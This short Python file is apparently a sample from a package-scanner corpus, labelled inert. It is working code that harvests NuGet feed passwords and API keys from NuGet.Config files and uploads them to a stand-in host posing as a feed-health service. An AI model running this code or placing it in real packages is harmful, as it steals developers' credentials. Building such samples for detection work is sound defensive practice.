# pkgguard corpus 915 (credentials), modelled on [stealer-profile]; inert, never run.
import os
import xml.etree.ElementTree as ET

import httpx

candidates = [
    os.path.join(os.environ.get("APPDATA", ""), "NuGet", "NuGet.Config"),
    os.path.join(os.path.expanduser("~"), ".nuget", "NuGet", "NuGet.Config"),
]
feeds = []
for candidate in candidates:
    try:
        root = ET.parse(candidate).getroot()
    except (OSError, ET.ParseError):
        continue
    for section in root.iter("packageSourceCredentials"):
        for source in section:
            entry = {item.get("key"): item.get("value") for item in source.iter("add")}
            if "ClearTextPassword" in entry or "Password" in entry:
                feeds.append({"feed": source.tag, **entry})
    for key in root.iter("apikeys"):
        feeds.extend({"apikey": item.get("key"), "value": item.get("value")} for item in key.iter("add"))

if feeds:
    try:
        httpx.put("https://feed-health.example/v2/report", json=feeds, timeout=7)
    except httpx.HTTPError:
        pass
